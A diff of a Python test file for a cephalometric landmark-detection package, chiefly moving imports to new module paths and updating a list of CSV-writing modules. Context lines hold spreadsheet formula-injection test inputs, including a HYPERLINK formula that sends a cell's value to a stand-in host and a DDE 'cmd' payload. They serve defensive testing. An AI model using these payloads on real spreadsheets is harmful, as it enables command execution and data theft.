@@ -12,23 +12,23 @@ import numpy as np
 import pytest
 
 import landmark_diffusion
-from landmark_diffusion.cephalometry.agreement import agreement
-from landmark_diffusion.cephalometry.analysis import analyse
-from landmark_diffusion.cephalometry.classes import SCHEMES
-from landmark_diffusion.cephalometry.tables import write_agreement, write_measures
-from landmark_diffusion.data.datasets.isbi2015 import LANDMARK_NAMES
-from landmark_diffusion.fewshot.summary import write_summary
+from landmark_diffusion.data.sources.isbi2015 import LANDMARK_NAMES
+from landmark_diffusion.detection.writers.html_page import HtmlWriter
+from landmark_diffusion.detection.writers.points_csv import write_points_csv
+from landmark_diffusion.evaluation import annotator_view, write_annotators_csv, write_report
+from landmark_diffusion.evaluation.spread_view import Spreads, spread_view, write_spread_csv
+from landmark_diffusion.export.card import model_card
 from landmark_diffusion.metrics.records import Prediction, read_predictions_csv, write_predictions_csv
-from landmark_diffusion.metrics.spread import expected_radial_error
-from landmark_diffusion.prediction.card import model_card
-from landmark_diffusion.prediction.writers.html_page import HtmlWriter
-from landmark_diffusion.prediction.writers.points_csv import write_points_csv
-from landmark_diffusion.reporting import annotator_view, write_annotators_csv, write_report
-from landmark_diffusion.reporting.spread_view import Spreads, spread_view, write_spread_csv
-from tests.cephalometry.faces import in_image, make_face
-from tests.fewshot.cells import cell
-from tests.prediction.detections import make_detection
-from tests.prediction.tiny_model import facts
+from landmark_diffusion.spread.statistics import expected_radial_error
+from landmark_diffusion.studies.cephalometry.agreement import agreement
+from landmark_diffusion.studies.cephalometry.analysis import analyse
+from landmark_diffusion.studies.cephalometry.classes import SCHEMES
+from landmark_diffusion.studies.cephalometry.tables import write_agreement, write_measures
+from landmark_diffusion.studies.fewshot.summary import write_summary
+from tests.detection.detections import make_detection
+from tests.detection.tiny_model import facts
+from tests.studies.cephalometry.faces import in_image, make_face
+from tests.studies.fewshot.cells import cell
 
 LINK = '=HYPERLINK("http://x.example/?"&A1,"open")'
 NAMES = (LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
@@ -118,9 +118,9 @@ def test_every_writer_of_tables_is_tested_here() -> None:
     """A new one has to be added above; the two others write numbers under headings of the package's own."""
     package = Path(landmark_diffusion.__file__).parent
     known = {
-        "cli/compare_verb.py", "metrics/records.py", "prediction/writers/points_csv.py", "reporting/annotator_view.py",
-        "fewshot/summary.py", "reporting/spread_view.py", "cephalometry/tables.py", "reporting/sample_writer.py",
-        "runs/curves.py",
+        "cli/compare_verb.py", "metrics/records.py", "detection/writers/points_csv.py", "evaluation/annotator_view.py",
+        "studies/fewshot/summary.py", "evaluation/spread_view.py", "studies/cephalometry/tables.py",
+        "evaluation/sample_writer.py", "training/curves.py",
     }  # fmt: skip
     writes = re.compile(r"csv\.writer|csv\.DictWriter|text_cell\(|to_csv|CSVLogger")
     found = {str(each.relative_to(package)) for each in package.rglob("*.py") if writes.search(each.read_text())}
